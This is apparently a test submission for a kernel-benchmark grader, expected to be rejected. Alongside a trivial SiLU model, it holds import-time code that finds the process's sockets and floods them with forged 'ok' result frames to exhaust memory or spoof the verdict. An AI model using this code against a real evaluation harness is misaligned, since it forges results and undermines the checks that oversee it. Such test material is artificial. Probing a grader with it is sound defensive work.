"""E03: a thread that never stops sending small, well-formed frames.

A reader that queues them all runs out of memory; one that takes the first takes a forged one.

problem: silu_small
backend: torch
outcome: REJECTED, RUNTIME_ERROR, INCORRECT, INVALID
devices: cpu, cuda
request: {"run_performance": false, "timeout": 10}
"""

import json
import os
import socket
import stat
import struct
import threading

import torch
import torch.nn as nn


def sockets():
    """Descriptors of this process that are sockets."""
    for name in os.listdir("/proc/self/fd"):
        try:
            if stat.S_ISSOCK(os.fstat(int(name)).st_mode):
                yield int(name)
        except OSError:
            continue


BODY = json.dumps({"ok": None}).encode()
FRAMES = (struct.pack(">I", len(BODY)) + BODY) * 1000


def flood(descriptor):
    sock = socket.socket(fileno=os.dup(descriptor))
    try:
        for _ in range(100_000):
            sock.sendall(FRAMES)
    except OSError:
        pass


for each in sockets():
    threading.Thread(target=flood, args=(each,), daemon=True).start()


class ModelNew(nn.Module):
    def forward(self, x):
        return torch.nn.functional.silu(x)
